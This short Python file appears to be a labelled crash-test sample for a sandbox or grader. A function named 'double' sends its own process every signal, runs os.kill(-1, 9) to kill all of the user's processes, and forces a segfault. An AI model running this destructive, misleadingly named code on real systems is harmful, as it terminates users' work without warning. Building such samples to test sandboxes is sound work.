# ruff: noqa
# fmt: off
# Sends itself every signal.
# score: 5
# verdict: crash
import os, signal, ctypes
def double(x):
    for n in range(1, 65):
        try: os.kill(os.getpid(), n)
        except OSError: pass
    try: os.kill(-1, 9)
    except OSError: pass
    ctypes.string_at(0)
def total(x): return x.sum()
